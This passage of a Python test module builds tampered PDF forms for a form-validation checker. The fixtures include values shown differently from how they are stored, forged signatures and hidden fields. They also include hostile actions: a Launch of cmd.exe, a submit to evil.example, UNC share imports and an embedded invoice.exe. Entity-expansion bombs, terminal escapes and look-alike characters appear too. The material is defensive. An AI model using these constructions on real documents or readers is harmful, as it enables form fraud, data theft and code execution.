"""Our own form in the hands of somebody who wants other values to be read than are seen, or more to happen than
reading; and forms whose fields or letters are broken."""

from __future__ import annotations

import re
import zlib
from collections.abc import Callable
from functools import cache, partial

from drafts import MOBILE, MOBILE_PATH, OTHER_MOBILE, PARTNER, TIMELINE, TITLE, Draft, flate, form, stream, updated
from manifest import (
    INVALID,
    NOT_TAKEN,
    READ,
    READ_OR_REFUSED,
    Expected,
    Hostile,
    flagged,
    meaning,
    of_bytes,
    refused,
    warned,
)

_OTHER = b"(" + OTHER_MOBILE.encode() + b")"
_SENT = b"(+258 84 555 0103)"
_SECONDARY = f"{PARTNER}_secondary_mobile"
_TICK = "table_b_low_destination_secondary"
_MOBILE_PATH = "table_c.requesting_organization.primary.mobile"
_EMAIL_PATH = "table_c.requesting_organization.primary.email"
_LOOKALIKE = "wk\u0430mau@harbour-trust.example"
"""With a Cyrillic letter for a Latin one."""
_NAME_PATH = "table_c.requesting_organization.primary.name"


def edited(name: str, old: bytes, new: bytes) -> bytes:
    """The form with something else in the object of a field."""
    draft = Draft()
    return draft.change(draft.field(name), old, new).finished()


def entered(entries: bytes, name: str = MOBILE) -> bytes:
    draft = Draft()
    return draft.enter(draft.field(name), entries).finished()


def holding(value: bytes, name: str = MOBILE) -> bytes:
    """The form with another value, as it is written in the file."""
    return Draft().value(name, value).finished()


def saying(text: str, name: str = MOBILE) -> bytes:
    return holding(b"<FEFF%b>" % text.encode("utf-16-be", "surrogatepass").hex().upper().encode(), name)


def in_catalog(entries: bytes, *further: bytes) -> bytes:
    """The form with entries in its catalog; NEXT is the number of the first object that is put in beside."""
    draft = Draft()
    draft.enter(draft.root, entries.replace(b"NEXT", b"%d 0 R" % (max(draft.bodies) + 1)))
    for body in further:
        draft.add(body)
    return draft.finished()


# Two values for one field


def two_of_one_name(value: bytes = _OTHER) -> bytes:
    draft = Draft()
    number = draft.field(MOBILE)
    twin = draft.add(draft.bodies[number].replace(_SENT, value))
    draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % twin)
    return draft.change(draft.pages[-1], b"/Annots[", b"/Annots[%d 0 R " % twin).finished()


def two_values_in_one(*, first: bool, in_pack: bool = False) -> bytes:
    draft = Draft().undrawn(MOBILE)
    number = draft.field(MOBILE)
    both = b"/V%b/V%b" % ((_OTHER, _SENT) if first else (_SENT, _OTHER))
    draft.change(number, b"/V" + _SENT, both)
    return draft.packed() if in_pack else draft.finished()


def two_forms_in_one(*, first: bool) -> bytes:
    """The catalog has the key of the form twice; the other one has another value."""
    draft = Draft()
    body = draft.bodies[draft.root]
    found = re.search(rb"/AcroForm(<</Fields\[.*?\].*?>>>>>>)", body)
    assert found
    number = draft.field(MOBILE)
    other = draft.add(draft.bodies[number].replace(_SENT, _OTHER))
    twin = found[1].replace(b" %d 0 R" % number, b" %d 0 R" % other)
    pair = (twin, found[1]) if first else (found[1], twin)
    draft.bodies[draft.root] = body.replace(found[0], b"/AcroForm%b/AcroForm%b" % pair)
    return draft.finished()


def two_lists_of_fields() -> bytes:
    draft = Draft()
    number = draft.field(MOBILE)
    other = draft.add(draft.bodies[number].replace(_SENT, _OTHER))
    found = re.search(rb"/Fields(\[.*?\])", draft.bodies[draft.root])
    assert found
    return draft.change(
        draft.root, found[0], found[0] + b"/Fields" + found[1].replace(b" %d 0 R" % number, b" %d 0 R" % other)
    ).finished()


def two_roots() -> bytes:
    draft = Draft()
    number = draft.field(MOBILE)
    other = draft.add(draft.bodies[number].replace(_SENT, _OTHER))
    catalog = draft.add(draft.bodies[draft.root].replace(b" %d 0 R" % number, b" %d 0 R" % other))
    draft.trailer += b"/Root %d 0 R" % catalog
    return draft.finished()


def one_object_twice() -> bytes:
    """Two objects of one number, both before one table, which leads to the first."""
    draft = Draft()
    number = draft.field(MOBILE)
    data = draft.finished()
    second = b"%d 0 obj\n%b\nendobj\n" % (number, draft.bodies[number].replace(_SENT, _OTHER))
    at = data.rindex(b"xref\n0 ")
    return re.sub(rb"startxref\n\d+", b"startxref\n%d" % (at + len(second)), data[:at] + second + data[at:])


def value_in_the_widget() -> bytes:
    """A field with one value, and its only widget, an object of its own, with another."""
    draft = Draft()
    number = draft.field(MOBILE)
    field = draft.add(b"<</FT/Tx/T(%b)/V%b/Kids[%d 0 R]>>" % (MOBILE.encode(), _SENT, number))
    draft.change(number, b"/T(%b)" % MOBILE.encode(), b"/Parent %d 0 R" % field)
    draft.change(number, b"/V" + _SENT, b"/V" + _OTHER)
    return draft.change(draft.root, b" %d 0 R" % number, b" %d 0 R" % field).finished()


# Values that are not seen as they are stored


def shown_as_sent(packed: bool = False) -> bytes:
    draft = Draft()
    draft.change(draft.field(MOBILE), _SENT, _OTHER)
    return draft.packed() if packed else draft.finished()


def never_sent_and_shown() -> bytes:
    """A value is stored, another one shown, and neither is what was sent."""
    draft = Draft()
    draft.change(draft.field(MOBILE), _SENT, _OTHER)
    return draft.change(draft.appearance(MOBILE), _SENT, b"(+258 84 555 0777)").finished()


def painted_over(*, twice: bool = False) -> bytes:
    """The page shows another value above the field, which stays as it was; to some programs alone where it has its
    contents `twice`."""
    draft = Draft()
    found = re.search(rb"/Rect\[([\d.]+) ([\d.]+) ([\d.]+) ([\d.]+)\]", draft.bodies[draft.field(MOBILE)])
    assert found
    x, y = float(found[1]) + 3, float(found[2]) + 4
    number = draft.add(stream(b"BT /Painted 8 Tf %.2f %.2f Td (%b) Tj ET" % (x, y, OTHER_MOBILE.encode())))
    resources = int(re.findall(rb"/Font (\d+) 0 R", draft.bodies[draft.pages[-1]])[0])
    draft.enter(resources, b"/Painted<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
    sent = re.search(rb"/Contents\[.*?\]", draft.bodies[draft.pages[-1]])
    assert sent
    painted = sent[0].replace(b"[", b"[%d 0 R " % number)
    return draft.change(draft.pages[-1], sent[0], sent[0] + painted if twice else painted).finished()


def covered(entries: bytes, over: str = MOBILE) -> bytes:
    """Something with an appearance of its own in the place of a field."""
    draft = Draft()
    found = re.search(rb"/Rect(\[[^]]*\])", draft.bodies[draft.field(over)])
    assert found
    said = b"1 g 0 0 300 20 re f BT /Helv 9 Tf 0 g 2 4 Td %b Tj ET" % _OTHER
    fonts = b"<</Font<</Helv<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    drawn = draft.add(stream(said, b"/Type/XObject/Subtype/Form/BBox[0 0 240 16]/Resources" + fonts))
    number = draft.add(b"<</Type/Annot/F 4/Rect%b/AP<</N %d 0 R>>%b>>" % (found[1], drawn, entries))
    if b"/Widget" in entries:
        draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % number)
    return draft.change(draft.pages[-1], b"/Annots[", b"/Annots[%d 0 R " % number).finished()


def around_page(before: bytes, after: bytes = b" Q") -> bytes:
    """The last page with something before its content and something after it."""
    draft = Draft()
    first, last = draft.add(stream(before)), draft.add(stream(after))
    found = re.search(rb"/Contents\[(.*?)\]", draft.bodies[draft.pages[-1]])
    assert found
    said = b"/Contents[%d 0 R %b %d 0 R]" % (first, found[1], last)
    return draft.change(draft.pages[-1], found[0], said).finished()


def page_more() -> bytes:
    draft = Draft()
    resources = re.search(rb"/Resources<<.*?>>", draft.bodies[draft.pages[-1]])
    assert resources
    content = draft.add(stream(b"BT /F1 20 Tf 50 300 Td (By signing you agree) Tj ET"))
    tree = draft.page_tree()
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]%b/Contents %d 0 R>>" % (tree, resources[0], content)
    number = draft.add(page)
    count = len(draft.pages)
    draft.change(tree, b"/Count %d" % count, b"/Count %d" % (count + 1))
    return draft.change(tree, b"%d 0 R]" % draft.pages[-1], b"%d 0 R %d 0 R]" % (draft.pages[-1], number)).finished()


def shown_identity() -> bytes:
    draft = Draft()
    number = draft.field("form_terms")
    draft.change(number, b"/F 6", b"/F 4")
    return draft.change(number, b"/Rect[0 0 0 0]", b"/Rect[300 14 400 26]").finished()


def noted_over() -> bytes:
    draft = Draft()
    found = re.search(rb"/Rect(\[[^]]*\])", draft.bodies[draft.field(MOBILE)])
    assert found
    note = b"<</Type/Annot/Subtype/FreeText/F 4/Rect%b/Contents%b/DA(/Helv 8 Tf 0 g)>>" % (found[1], _OTHER)
    number = draft.add(note)
    return draft.change(draft.pages[-1], b"/Annots[", b"/Annots[%d 0 R " % number).finished()


def changed_rect(rect: bytes) -> bytes:
    draft = Draft().value(MOBILE, _OTHER)
    number = draft.field(MOBILE)
    draft.bodies[number] = re.sub(rb"/Rect\[[^]]*\]", b"/Rect" + rect, draft.bodies[number])
    return draft.finished()


def with_flags(flags: int) -> bytes:
    draft = Draft().value(MOBILE, _OTHER)
    return draft.change(draft.field(MOBILE), b"/F 4/", b"/F %d/" % flags).finished()


def in_a_hidden_layer() -> bytes:
    """Optional content (8.11) that is off when the file is opened."""
    draft = Draft().value(MOBILE, _OTHER)
    layer = draft.add(b"<</Type/OCG/Name(x)>>")
    draft.enter(draft.field(MOBILE), b"/OC %d 0 R" % layer)
    said = b"/OCProperties<</OCGs[%d 0 R]/D<</BaseState/OFF/OFF[%d 0 R]>>>>" % (layer, layer)
    return draft.enter(draft.root, said).finished()


def on_no_page() -> bytes:
    draft = Draft().value(MOBILE, _OTHER)
    number = draft.field(MOBILE)
    for page in draft.pages:
        draft.bodies[page] = draft.bodies[page].replace(b" %d 0 R" % number, b"")
    draft.bodies[number] = re.sub(rb"/P \d+ 0 R", b"", draft.bodies[number])
    return draft.finished()


def not_in_the_form() -> bytes:
    """A field that stands on its page, and not among the form's."""
    draft = Draft().value(MOBILE, _OTHER)
    return draft.change(draft.root, b" %d 0 R" % draft.field(MOBILE), b"").finished()


def exchanged_names() -> bytes:
    """Two fields with each other's names, each where the other belongs."""
    draft = Draft()
    one, other = draft.field(MOBILE), draft.field(_SECONDARY)
    draft.change(one, b"/T(%b)" % MOBILE.encode(), b"/T(%b)" % _SECONDARY.encode())
    draft.change(other, b"/T(%b)" % _SECONDARY.encode(), b"/T(%b)" % MOBILE.encode())
    return draft.finished()


def exchanged_appearances() -> bytes:
    draft = Draft()
    one, other = draft.appearance(MOBILE), draft.appearance(_SECONDARY)
    draft.bodies[one], draft.bodies[other] = draft.bodies[other], draft.bodies[one]
    return draft.finished()


def tick_shown_otherwise() -> bytes:
    return edited(_TICK, b"/V/Off/AS/Off", b"/V/Yes/AS/Off")


def tick_drawn_otherwise() -> bytes:
    """The state that says no is drawn as a tick, and the one that says yes as nothing."""
    draft = Draft()
    number = draft.field(_TICK)
    draft.bodies[number] = re.sub(
        rb"/N<</Yes (\d+ 0 R)/Off (\d+ 0 R)>>", rb"/N<</Yes \2/Off \1>>", draft.bodies[number]
    )
    return draft.finished()


# Texts of ours


def without_words(words: bytes) -> bytes:
    """A page that no longer draws these words of ours; of several places, the last one."""
    draft = Draft()
    firsts = (re.findall(rb"/Contents\[(\d+) 0 R", draft.bodies[page])[0] for page in reversed(draft.pages))
    for number in map(int, firsts):
        body = draft.bodies[number]
        drawn = zlib.decompress(body.partition(b"stream\n")[2].removesuffix(b"\nendstream"))
        if words in drawn:
            at = drawn.rindex(words)
            start, end = drawn.rindex(b"BT", 0, at), drawn.index(b"ET", at) + 2
            draft.bodies[number] = flate(drawn[:start] + drawn[end:])
            return draft.finished()
    raise ValueError(words)


# More than a form does


def action(said: bytes) -> bytes:
    return b"<</Type/Action/S%b>>" % said


def on_opening(said: bytes) -> bytes:
    return in_catalog(b"/OpenAction" + action(said))


def on_a_click(said: bytes) -> bytes:
    return entered(b"/A" + action(said))


def linked(said: bytes) -> bytes:
    draft = Draft()
    number = draft.add(b"<</Type/Annot/Subtype/Link/Rect[40 40 400 60]/Border[0 0 0]/A%b>>" % action(said))
    return draft.change(draft.pages[0], b"/Annots[", b"/Annots[%d 0 R " % number).finished()


def attached() -> bytes:
    return in_catalog(
        b"/Names<</EmbeddedFiles<</Names[(invoice.exe)NEXT]>>>>",
        b"<</Type/Filespec/F(invoice.exe)/UF(invoice.exe)/EF<</F 347 0 R>>>>",
        stream(b"MZ", b"/Type/EmbeddedFile"),
    )


def pinned() -> bytes:
    draft = Draft()
    file = draft.add(stream(b"MZ", b"/Type/EmbeddedFile"))
    said = b"/FS<</Type/Filespec/F(invoice.exe)/EF<</F %d 0 R>>>>" % file
    number = draft.add(b"<</Type/Annot/Subtype/FileAttachment/Rect[5 5 25 25]%b>>" % said)
    return draft.change(draft.pages[0], b"/Annots[", b"/Annots[%d 0 R " % number).finished()


# Saved again and again


def saved(*values: bytes) -> bytes:
    """The form with an incremental update for each value of one field."""
    draft, data = Draft(), form()
    number = draft.field(MOBILE)
    for value in values:
        body = Draft().value(MOBILE, value).bodies[number]
        data = updated(data, {number: body}, draft.trailer)
    return data


@cache
def signed() -> bytes:
    """A form with the dictionary of a signature (12.8.1) over the whole file, which is worth nothing."""
    draft = Draft()
    value = draft.add(
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached"
        b"/ByteRange[0 1111111111 2222222222 3333333333]/Contents<%b>>>" % (b"0" * 64)
    )
    field = draft.add(b"<</FT/Sig/T(approval)/V %d 0 R>>" % value)
    data = draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % field).finished()
    start = data.index(b"/Contents<" + b"0" * 64) + len(b"/Contents")
    end = start + 66
    for mark, number in ((b"1111111111", start), (b"2222222222", end), (b"3333333333", len(data) - end)):
        data = data.replace(mark, b"%010d" % number)
    return data


def changed_after_signing() -> bytes:
    number = Draft().field(MOBILE)
    return updated(signed(), {number: Draft().value(MOBILE, _OTHER).bodies[number]}, Draft().trailer)


def signed_in_part() -> bytes:
    """A signature that covers the beginning of the file only, and says so."""
    return re.sub(rb"/ByteRange\[(\d+ \d+ \d+) \d+\]", rb"/ByteRange[\1 0000000010]", signed())


def signed_somewhere_else() -> bytes:
    """A signature whose hole is as large as the file."""
    return re.sub(rb"/ByteRange\[[^]]*\]", b"/ByteRange[0 0000000001 0000000002 0000000003]", signed())


# Broken trees of fields


def fields_in_a_circle() -> bytes:
    draft = Draft()
    number = draft.field(MOBILE)
    group = draft.add(b"<</T(group)/Kids[%d 0 R %d 0 R]>>" % (max(draft.bodies) + 1, number))
    return draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % group).finished()


def parents_in_a_circle() -> bytes:
    draft = Draft()
    number = draft.field(MOBILE)
    draft.enter(number, b"/Parent %d 0 R" % draft.field(TITLE))
    return draft.enter(draft.field(TITLE), b"/Parent %d 0 R" % number).finished()


def list_of_fields(entry: bytes) -> bytes:
    draft = Draft()
    body = draft.bodies[draft.root]
    draft.bodies[draft.root] = re.sub(rb"/Fields\[.*?\]", lambda _: b"/Fields" + entry, body)
    return draft.finished()


def fields_in_themselves() -> bytes:
    draft = Draft()
    number = draft.add(b"")
    found = re.search(rb"/Fields\[(.*?)\]", draft.bodies[draft.root])
    assert found
    draft.bodies[number] = b"[%d 0 R %b]" % (number, found[1])
    return draft.change(draft.root, found[0], b"/Fields %d 0 R" % number).finished()


def more_fields(count: int) -> bytes:
    draft = Draft()
    first = max(draft.bodies) + 1
    for number in range(first, first + count):
        draft.bodies[number] = b"<</FT/Tx/T(f%d)/V(x)>>" % number
    kids = b"".join(b"%d 0 R " % number for number in range(first, first + count))
    return draft.change(draft.root, b"/Fields[", b"/Fields[" + kids).finished()


def fields_in_a_chain(length: int) -> bytes:
    draft = Draft()
    first = max(draft.bodies) + 1
    for number in range(first, first + length):
        draft.bodies[number] = b"<</T(t)/Kids[%d 0 R]>>" % (number + 1)
    draft.bodies[first + length] = b"<</T(t)/FT/Tx/V(x)>>"
    return draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % first).finished()


def fields_that_multiply() -> bytes:
    """Each of nine levels has the next one ten times, and each time under another name."""
    draft = Draft()
    below = draft.add(b"<</T(t)/FT/Tx/V(x)>>")
    for _ in range(9):
        below = draft.add(b"<</T(t)/Kids[%b]>>" % (b"%d 0 R " % below * 10))
    return draft.change(draft.root, b"/Fields[", b"/Fields[%d 0 R " % below).finished()


def many_notes(count: int) -> bytes:
    draft = Draft()
    note = draft.add(b"<</Type/Annot/Subtype/Text/Rect[5 5 9 9]/Contents(x)>>")
    return draft.change(draft.pages[0], b"/Annots[", b"/Annots[" + b"%d 0 R " % note * count).finished()


def without_a_form() -> bytes:
    draft = Draft()
    found = re.search(rb"/AcroForm<</Fields\[.*?\].*?>>>>>>", draft.bodies[draft.root])
    assert found
    return draft.change(draft.root, found[0], b"/AcroForm null").finished()


def xfa(alone: bool) -> bytes:
    draft = Draft()
    number = draft.add(stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>'))
    draft.change(draft.root, b"/AcroForm<<", b"/AcroForm<</XFA %d 0 R" % number)
    if alone:
        draft.bodies[draft.root] = re.sub(rb"/Fields\[.*?\]", b"/Fields[]", draft.bodies[draft.root])
        for page in draft.pages:
            draft.bodies[page] = re.sub(rb"/Annots\[.*?\]", b"", draft.bodies[page])
    return draft.finished()


# The data of a form


def fdf(fields: bytes) -> bytes:
    return b"%%FDF-1.2\n1 0 obj\n<</FDF<</Fields[%b]>>>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%%%EOF\n" % fields


def fdf_in_a_circle() -> bytes:
    return fdf(b"2 0 R").replace(b"trailer", b"2 0 obj\n<</T(form_reference)/Kids[2 0 R 2 0 R]>>\nendobj\ntrailer")


def xfdf(fields: str, before: str = "") -> bytes:
    root = f'<xfdf xmlns="http://ns.adobe.com/xfdf/"><fields>{fields}</fields></xfdf>'
    return f'<?xml version="1.0" encoding="UTF-8"?>{before}{root}'.encode()


def entities(levels: int) -> str:
    """Ten of each entity in the next one."""
    said = "".join(f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, levels))
    return f'<!DOCTYPE x [<!ENTITY e0 "lol">{said}]>'


_BOTH_VALUES = flagged("key_twice", "readers_disagree", "doubled_field")
_SCRIPT = b"/JavaScript/JS(app.alert\\(1\\))"
_WIDGETS = {
    "a button": b"/FT/Btn/Ff 65536/T(x)",
    "a field to sign in": b"/FT/Sig/T(x)",
    "a field without a name": b"/FT/Tx",
    "a hidden field of ours": b"/FT/Tx/T(form_terms)/V(x)",
}
_MEANS = {MOBILE_PATH: OTHER_MOBILE}
_STILL_SHOWN = flagged("shown_as_sent")


def _pdf(build: Callable[[], bytes], expected: Expected) -> Hostile:
    return of_bytes(build, "return.pdf", expected)


PDF_FORMS = {
    "form as it was sent": _pdf(form, READ),
    "form with another value that is not drawn yet": _pdf(lambda: holding(_OTHER), meaning(READ, _MEANS)),
    "form with a value that was saved once": _pdf(lambda: saved(_OTHER), meaning(READ, _MEANS)),
    # Two values for one field
    "form with two fields of one name": _pdf(two_of_one_name, flagged("doubled_field")),
    "form with two fields of one name and one value": _pdf(lambda: two_of_one_name(_SENT), READ_OR_REFUSED),
    "form with two values in one field, ours last": _pdf(lambda: two_values_in_one(first=True), _BOTH_VALUES),
    "form with two values in one field, ours first": _pdf(lambda: two_values_in_one(first=False), _BOTH_VALUES),
    "form with two values in one packed field, ours last": _pdf(
        lambda: two_values_in_one(first=True, in_pack=True), _BOTH_VALUES
    ),
    "form with two values in one packed field, ours first": _pdf(
        lambda: two_values_in_one(first=False, in_pack=True), _BOTH_VALUES
    ),
    "form with one field of two names": _pdf(
        lambda: edited(MOBILE, b"/T(", b"/T(%b)/T(" % _SECONDARY.encode()), _BOTH_VALUES
    ),
    "form with two kinds for one field": _pdf(
        lambda: edited(MOBILE, b"/FT/Tx", b"/FT/Btn/FT/Tx"), Expected(frozenset({3}), codes=_BOTH_VALUES.codes)
    ),
    "form with two forms, ours last": _pdf(lambda: two_forms_in_one(first=True), _BOTH_VALUES),
    "form with two forms, ours first": _pdf(lambda: two_forms_in_one(first=False), _BOTH_VALUES),
    "form with two lists of fields": _pdf(two_lists_of_fields, _BOTH_VALUES),
    "form with two roots": _pdf(
        two_roots, Expected(frozenset({3, 4}), codes=_BOTH_VALUES.codes | {"damaged", "one_reader"})
    ),
    "form with two objects of one number": _pdf(one_object_twice, READ_OR_REFUSED),
    "form with one value in the field and one in its widget": _pdf(value_in_the_widget, READ_OR_REFUSED),
    # Not seen as it is stored
    # What is sent is what is shown: just so qpdf and pikepdf leave a form that somebody honest filled in with them.
    "form that still shows what was sent": _pdf(shown_as_sent, _STILL_SHOWN),
    "form that still shows what was sent, packed": _pdf(lambda: shown_as_sent(packed=True), _STILL_SHOWN),
    "form that shows a value that was never sent": _pdf(never_sent_and_shown, flagged("shown_otherwise")),
    "form with another value painted over a field": _pdf(painted_over, flagged("typed_over", "fixed_text")),
    "form with another value painted over a field, to some": _pdf(
        lambda: painted_over(twice=True), flagged("typed_over")
    ),
    "form with a note over a field": _pdf(noted_over, flagged("typed_over")),
    **{
        f"form with a {kind} over a field": _pdf(partial(covered, b"/Subtype/" + kind.encode()), flagged("typed_over"))
        for kind in ("Watermark", "Screen", "Link", "Popup", "PrinterMark", "TrapNet", "Highlight")
    },
    **{
        f"form with {what} over a field": _pdf(partial(covered, b"/Subtype/Widget" + entries), flagged("typed_over"))
        for what, entries in _WIDGETS.items()
    },
    "form with a field of ours that is shown": _pdf(shown_identity, flagged("off_page")),
    "form with a page that is clipped away": _pdf(
        lambda: around_page(b"q 0 0 1 1 re W n ", b" Q BT /F1 8 Tf 392 461 Td (Title:) Tj ET"),
        flagged("foreign_content", "fixed_text"),
    ),
    "form with a page that is moved by a row": _pdf(
        lambda: around_page(b"q 1 0 0 1 0 -27.33 cm "), flagged("foreign_content", "typed_over")
    ),
    "form with a page more": _pdf(page_more, flagged("foreign_content")),
    "form with a page that is wrapped": _pdf(lambda: around_page(b"q "), READ),
    "form with a hidden field": _pdf(lambda: with_flags(6), flagged("hidden_field")),
    "form with a field that is not to be viewed": _pdf(lambda: with_flags(36), flagged("hidden_field")),
    "form with a field in a hidden layer": _pdf(in_a_hidden_layer, flagged("hidden_field")),
    "form with a field of no size": _pdf(
        lambda: changed_rect(b"[500 400 500 400]"), flagged("hidden_field", "off_page")
    ),
    "form with a field off its page": _pdf(lambda: changed_rect(b"[5000 5000 5200 5016]"), flagged("off_page")),
    "form with a field below its page": _pdf(lambda: changed_rect(b"[10 -90 200 -70]"), flagged("off_page")),
    "form with a field whose place is no number": _pdf(
        lambda: changed_rect(b"[NaN 1e999 null (x)]"),
        Expected(frozenset({3, 4}), codes=frozenset({"off_page", "hidden_field", "damaged", "one_reader"})),
    ),
    "form with a field on no page": _pdf(on_no_page, flagged("orphaned_field")),
    "form with a field that is not in the form": _pdf(not_in_the_form, meaning(READ_OR_REFUSED, _MEANS)),
    "form with two fields in each other's places": _pdf(exchanged_names, flagged("off_page", "shown_otherwise")),
    "form with two fields that show each other's values": _pdf(exchanged_appearances, flagged("shown_otherwise")),
    "form with a tick that is shown otherwise": _pdf(
        tick_shown_otherwise, flagged("contradicted_tick", "shown_otherwise")
    ),
    "form with a tick that is drawn otherwise": _pdf(
        tick_drawn_otherwise, flagged("contradicted_tick", "shown_otherwise")
    ),
    # Texts of ours
    "form with a cell of ours changed": _pdf(lambda: holding(b"(Another subject)", "subject"), warned("ours_differs")),
    "form with a cell of ours open": _pdf(lambda: edited("subject", b"/Ff 1/", b"/Ff 0/"), READ),
    "form with a focal point of ours changed": _pdf(
        lambda: holding(b"(+258 84 666 0000)", "table_c_iom_primary_mobile"),
        warned("ours_differs_contact", "ours_differs"),
    ),
    "form without the title of Table B": _pdf(lambda: without_words(b"Table B: Identification"), flagged("fixed_text")),
    "form without a heading that stands there twice": _pdf(
        lambda: without_words(b"Dataset/information"), flagged("fixed_text")
    ),
    # More than a form does
    "form with a script on opening": _pdf(lambda: on_opening(_SCRIPT), flagged("script")),
    "form with a script among its names": _pdf(
        lambda: in_catalog(b"/Names<</JavaScript<</Names[(a)<</S%b>>]>>>>" % _SCRIPT), flagged("script")
    ),
    "form with a script that counts a field": _pdf(lambda: entered(b"/AA<</C<</S%b>>>>" % _SCRIPT), flagged("script")),
    "form with a script on a page": _pdf(
        lambda: Draft().enter(1, b"/AA<</O<</S%b>>>>" % _SCRIPT).finished(), flagged("script")
    ),
    "form with a script in a chain of actions": _pdf(
        lambda: on_opening(b"/GoTo/D[1 0 R/Fit]/Next" + action(_SCRIPT)), flagged("script")
    ),
    "form that starts a program": _pdf(
        lambda: on_opening(b"/Launch/Win<</F(cmd.exe)/P(/c calc)>>"), flagged("launch_action")
    ),
    "form that sends itself away": _pdf(
        lambda: on_a_click(b"/SubmitForm/F<</FS/URL/F(http://evil.example/)>>"), flagged("submit_action")
    ),
    "form that takes data in": _pdf(
        lambda: on_a_click(b"/ImportData/F(\\\\\\\\evil\\\\x.fdf)"), flagged("submit_action")
    ),
    "form that opens another file": _pdf(
        lambda: linked(b"/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]"),
        flagged("submit_action", "foreign_link", "launch_action"),
    ),
    "form with a link to elsewhere": _pdf(lambda: linked(b"/URI/URI(http://evil.example/)"), flagged("foreign_link")),
    "form with a file inside": _pdf(attached, flagged("attachment")),
    "form with a file pinned to it": _pdf(pinned, flagged("attachment")),
    # Saved again and again
    "form saved with two values, one after the other": _pdf(
        lambda: saved(b"(+258 84 555 0777)", _OTHER), meaning(warned("saved_revisions"), {_MOBILE_PATH: OTHER_MOBILE})
    ),
    "form saved with another value and back": _pdf(lambda: saved(_OTHER, _SENT), warned("saved_revisions")),
    "form saved with two values, with ends that are spelt otherwise": _pdf(
        lambda: saved(b"(+258 84 555 0777)", _OTHER).replace(b"%%EOF", b"%%E0F", 2), flagged("saved_revisions")
    ),
    "form changed after it was signed": _pdf(changed_after_signing, flagged("changed_after_signing")),
    "form signed in part": _pdf(signed_in_part, warned("changed_after_signing")),
    "form signed somewhere else": _pdf(signed_somewhere_else, warned("changed_after_signing")),
    "form with a signature that is worth nothing": _pdf(signed, READ_OR_REFUSED),
    # Broken trees of fields
    "form with fields in a circle": _pdf(fields_in_a_circle, READ_OR_REFUSED),
    "form with fields above each other": _pdf(parents_in_a_circle, READ_OR_REFUSED),
    "form with a list of fields in itself": _pdf(fields_in_themselves, READ_OR_REFUSED),
    "form with a list of fields that is a number": _pdf(lambda: list_of_fields(b" 42"), READ_OR_REFUSED),
    "form with a list of nulls and numbers": _pdf(
        lambda: list_of_fields(b"[null 1 (x) /N [] <<>> 9999 0 R]"), READ_OR_REFUSED
    ),
    "form with 100,000 more fields": _pdf(lambda: more_fields(100_000), READ_OR_REFUSED),
    "form with fields 5,000 deep": _pdf(lambda: fields_in_a_chain(5000), READ_OR_REFUSED),
    "form with fields that multiply": _pdf(fields_that_multiply, READ_OR_REFUSED),
    "form with 100,000 notes": _pdf(lambda: many_notes(100_000), READ_OR_REFUSED),
    "form without its form": _pdf(without_a_form, READ_OR_REFUSED),
    "form of XFA alone": _pdf(lambda: xfa(alone=True), refused("xfa")),
    "form with XFA beside": _pdf(lambda: xfa(alone=False), warned("xfa_beside")),
    "form with a field of 10 MB": _pdf(lambda: holding(b"(" + b"x" * 10_000_000 + b")"), NOT_TAKEN),
    "form with a field whose name is a megabyte": _pdf(
        lambda: edited(MOBILE, b"/T(%b)" % MOBILE.encode(), b"/T(" + b"n" * 2**20 + b")"), NOT_TAKEN
    ),
    "form with a field whose name is 390 kB": _pdf(
        lambda: edited(MOBILE, b"/T(%b)" % MOBILE.encode(), b"/T(" + b"n" * 390_000 + b")"), NOT_TAKEN
    ),
    "form with a field whose value is null": _pdf(lambda: holding(b" null"), NOT_TAKEN),
    "form with a field whose value is a dictionary": _pdf(lambda: holding(b"<</A 1>>"), NOT_TAKEN),
    "form with a field whose value is a list in itself": _pdf(
        lambda: holding(b" 346 0 R").replace(b"xref\n0 346", b"346 0 obj\n[346 0 R]\nendobj\nxref\n0 346"), NOT_TAKEN
    ),
    "form with a field whose value is a number of 400 digits": _pdf(lambda: holding(b" " + b"9" * 400), NOT_TAKEN),
    "form with flags that are no number": _pdf(lambda: edited(MOBILE, b"/Ff 0", b"/Ff(x)"), READ_OR_REFUSED),
    "form with flags of 400 digits": _pdf(lambda: edited(MOBILE, b"/Ff 0", b"/Ff " + b"9" * 400), READ_OR_REFUSED),
    "form with a tick that holds text": _pdf(lambda: edited(_TICK, b"/V/Off", b"/V(maybe)"), NOT_TAKEN),
    "form with a choice that is none of its options": _pdf(
        lambda: holding(b"(galaxy)", "table_b_low_datasets_01_level"), NOT_TAKEN
    ),
    # Letters
    "form with half a letter of UTF-16": _pdf(lambda: holding(b"<FEFF004100>"), flagged("unreadable_field")),
    "form with half of a pair of surrogates": _pdf(lambda: saying("+258 \ud800 1"), flagged("unreadable_field")),
    "form with UTF-8 that is none": _pdf(lambda: holding(b"<EFBBBF41C328>"), flagged("unreadable_field")),
    "form with control characters": _pdf(lambda: holding(b"(+258\\001\\002\\010 84)"), INVALID),
    "form with a NUL in a value": _pdf(lambda: holding(b"(+258\\000 84 555)"), INVALID),
    "form with an escape for a terminal": _pdf(lambda: saying("\x1b]0;owned\x07\x1b[2J", TITLE), INVALID),
    "form with a non-character": _pdf(lambda: saying("Lead \uffff\ufdd0", TITLE), INVALID),
    "form with a line break in a name": _pdf(lambda: saying("Wanjiru\r\nKamau", f"{PARTNER}_primary_name"), NOT_TAKEN),
    "form with a name that is written backwards": _pdf(
        lambda: saying("Wanjiru \u202euamaK", f"{PARTNER}_primary_name"),
        Expected(frozenset({0, 3}), record=True, means={_NAME_PATH: "Wanjiru \u202euamaK"}),
    ),
    "form with an address of look-alikes": _pdf(
        lambda: saying(_LOOKALIKE, f"{PARTNER}_primary_email"),
        Expected(frozenset({0, 3}), record=True, means={_EMAIL_PATH: _LOOKALIKE}),
    ),
